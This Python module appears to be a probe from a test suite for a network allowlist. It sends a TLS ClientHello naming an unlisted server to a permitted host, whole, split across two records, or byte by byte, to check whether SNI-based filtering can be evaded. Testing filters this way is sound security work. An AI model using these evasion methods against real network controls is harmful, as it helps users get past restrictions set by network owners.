"""
Asks the listed host for another name in TLS, as if both were behind one front: in one record, in
two, and byte by byte.
"""

import socket
import ssl

from support.attempts import attempt
from support.listed import ask, evidence, reach_listed

# RFC 8446, section 5.1.
HEADER_BYTES = 5


def attack(target):
    address = reach_listed(target)
    port = target["listed_port"]
    honest = ask(address, port, client_hello(target["listed_name"]))
    if honest != b"listed":
        raise RuntimeError(f"asked in TLS, the listed host says {honest}")
    hello = client_hello(target["unlisted_name"])

    def asking(parts):
        def go():
            with socket.create_connection((address, port), timeout=2) as connection:
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for part in parts:
                    connection.sendall(part)
                return evidence(target, connection.recv(100))

        return go

    return attempt(
        {
            "one record": asking([hello]),
            "two records": asking(two_records(hello)),
            "byte by byte": asking([bytes([byte]) for byte in hello]),
        }
    )


def client_hello(name):
    """The first message of a handshake with this name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    outgoing = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def two_records(hello):
    kind_and_version, message = hello[:3], hello[HEADER_BYTES:]
    parts = message[:20], message[20:]
    return [kind_and_version + len(part).to_bytes(2, "big") + part for part in parts]
